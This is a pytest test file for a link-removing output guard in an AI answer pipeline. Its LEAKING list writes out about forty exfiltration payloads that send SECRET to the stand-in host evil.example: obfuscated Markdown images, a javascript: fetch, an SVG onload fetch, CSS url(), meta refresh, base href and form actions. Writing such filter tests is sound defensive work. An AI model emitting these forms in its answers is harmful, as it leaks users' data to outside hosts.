"""The output guard finds links as a Markdown or HTML renderer would load them: every form
that leaves the page is removed unless a source holds it; relative links and the sources'
own links stay (docs/adr/0048)."""

from __future__ import annotations

import pytest

from app.guardrails.links import MARKER, remove_links, rendered_destinations
from app.guardrails.output_checks import check_output
from tests.cpu_cost import assert_linear

SOURCE = "Support answers at https://shop.example/help every day."
ISSUE = "link not found in any source removed"

# Each answer leaks `SECRET` to evil.example (or runs script) when rendered.
LEAKING = [
    # The campaign's five forms.
    "![a](//evil.example/a.png?d=SECRET)",
    "See http:/\\evil.example/x?d=SECRET for more.",
    "See https:evil.example/x?d=SECRET for more.",
    "See &#104;ttp://evil.example/x?d=SECRET for more.",
    '<img src="//evil.example/a.png?d=SECRET">',
    # Markdown: links, images, titles, angle brackets, escapes, entities, references.
    "[details](https:evil.example/x?d=SECRET)",
    "[details](http:/\\evil.example/x?d=SECRET)",
    "![a](&#104;ttp://evil.example/a.png?d=SECRET)",
    '![a](//evil.example/a.png?d=SECRET "a title")',
    "![a](<//evil.example/a b.png?d=SECRET>)",
    "![a](\\/\\/evil.example/a.png?d=SECRET)",
    "![a](&sol;&sol;evil.example/a.png?d=SECRET)",
    "![a](\\\\\\\\evil.example/a.png?d=SECRET)",
    "![a](HTTPS://EVIL.EXAMPLE/a.png?d=SECRET)",
    "![a]( //evil.example/a(1).png?d=SECRET )",
    "![a][r]\n\n[r]: //evil.example/a.png?d=SECRET",
    "![a][r]\n\n[r]:\n  <//evil.example/a.png?d=SECRET>",
    "> Quoted: ![a](//evil.example/a.png?d=SECRET)",
    "- item ![a](//evil.example/a.png?d=SECRET)",
    "[![a](//evil.example/a.png?d=SECRET)](https://shop.example/help)",
    "[run](javascript:fetch('//evil.example/?d='+SECRET))",
    "![a](data:image/svg+xml,<svg onload=fetch('//evil.example/?d=SECRET')>)",
    # Autolinks and bare text as GitHub-flavoured renderers link it.
    "<https://evil.example/x?d=SECRET>",
    "Visit www.evil.example/x?d=SECRET today.",
    "Visit HTTPS://evil.example/x?d=SECRET today.",
    # Raw HTML: every URL attribute, entities, unquoted and odd spacing, CSS, base, refresh.
    "<img src=//evil.example/a.png?d=SECRET>",
    "<IMG SRC='//evil.example/a.png?d=SECRET'>",
    '<img src="&#x2F;&#x2F;evil.example/a.png?d=SECRET">',
    '<img src=" \\\\evil.example/a.png?d=SECRET">',
    '<img srcset="a.png 1x, //evil.example/b.png?d=SECRET 2x">',
    '<a href="ht&#9;tp://evil.example/?d=SECRET">here</a>',
    '<video poster="//evil.example/p.png?d=SECRET"></video>',
    "<svg><image href='//evil.example/a.png?d=SECRET'/></svg>",
    '<svg><use xlink:href="//evil.example/s.svg?d=SECRET#x"/></svg>',
    '<div style="background:url(//evil.example/a.png?d=SECRET)">x</div>',
    '<style>p { background: url("https://evil.example/a.png?d=SECRET") }</style>',
    '<base href="//evil.example/">![a](a.png?d=SECRET)',
    '<meta http-equiv="refresh" content="0;url=//evil.example/?d=SECRET">',
    '<iframe srcdoc="<img src=//evil.example/a.png?d=SECRET>"></iframe>',
    '<form action="//evil.example/"><button formaction="//evil.example/?d=SECRET">x</button>',
    "<p>\n<img src=//evil.example/a.png?d=SECRET>\n</p>",
]


@pytest.mark.parametrize("answer", LEAKING)
def test_a_link_leaving_the_page_is_removed_in_every_form(answer: str) -> None:
    verdict = check_output(answer, (), [SOURCE])

    assert "evil.example" not in verdict.text.lower()
    assert not [url for url in rendered_destinations(verdict.text) if "evil" in url.lower()]
    assert MARKER in verdict.text
    assert ISSUE in verdict.issues


@pytest.mark.parametrize(
    "answer",
    [
        "Open https://shop.example/help [1].",
        "[Help page](https://shop.example/help) [1]",
        "<https://shop.example/help>",
        '<a href="https://shop.example/help">help</a>',
        "[Help page](//shop.example/help)",  # the source's link, written another way
        "[Top](#top), ![logo](/static/logo.png) and [a page](guide.html) stay on this site.",
        "Escaped: \\[not a link\\](//evil.example) and `code` and 1 < 2 > 0.",
        "Note: this works with https: only.",
    ],
)
def test_the_sources_links_and_relative_links_stay(answer: str) -> None:
    verdict = check_output(answer, (), [SOURCE])

    assert verdict.text == answer
    assert ISSUE not in verdict.issues


def test_a_link_a_source_holds_stays_but_not_with_something_appended() -> None:
    verdict = check_output(
        "![a](https://shop.example/help?d=SECRET) and [b](https://shop.example/help)",
        (),
        [SOURCE],
    )
    assert verdict.text == f"{MARKER} and [b](https://shop.example/help)"


def test_an_answer_of_too_much_markup_is_rendered_as_text_without_its_links() -> None:
    def answer(size: int) -> str:
        return "[x](y) " * size + "<img src=//evil.example/a.png?d=SECRET> www.evil.example/?d=1"

    text, removed = remove_links(answer(600), lambda _url: False)
    assert removed >= 1
    assert not [url for url in rendered_destinations(text) if "evil" in url]
    assert "\\<img" in text  # escaped: shown, not rendered
    assert "www.evil" not in text
    assert_linear(lambda size: remove_links(answer(size), lambda _url: False), 600)


@pytest.mark.parametrize(
    ("unit", "tail", "size"),
    [
        ("](", "", 5_000),
        ("](http://", "", 1_250),
        ("<a ", "", 10_000),
        ("&#104;", "", 5_000),
        ("[", "](", 5_000),
    ],
)
def test_hostile_markup_costs_in_proportion_to_its_length(unit: str, tail: str, size: int) -> None:
    assert_linear(lambda repeats: remove_links(unit * repeats + tail, lambda _url: False), size)


def test_a_removed_markdown_link_keeps_its_text_and_a_link_inside_it_goes_too() -> None:
    text, removed = remove_links(
        "Read [the docs](https://evil.example/x) or "
        "[![logo](//evil.example/l.png)](https:evil.example/y).",
        lambda _url: False,
    )
    assert text == f"Read the docs {MARKER} or {MARKER} {MARKER}."
    assert removed == 3
    assert not rendered_destinations(text)
